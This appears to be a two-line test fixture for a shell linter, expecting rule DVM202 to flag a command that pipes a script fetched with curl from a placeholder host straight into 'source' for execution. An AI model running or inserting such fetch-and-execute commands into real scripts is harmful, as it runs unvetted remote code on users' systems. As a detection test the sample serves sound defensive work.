# expect: DVM202
source /dev/stdin < <(curl -s https://x.example.org/a)
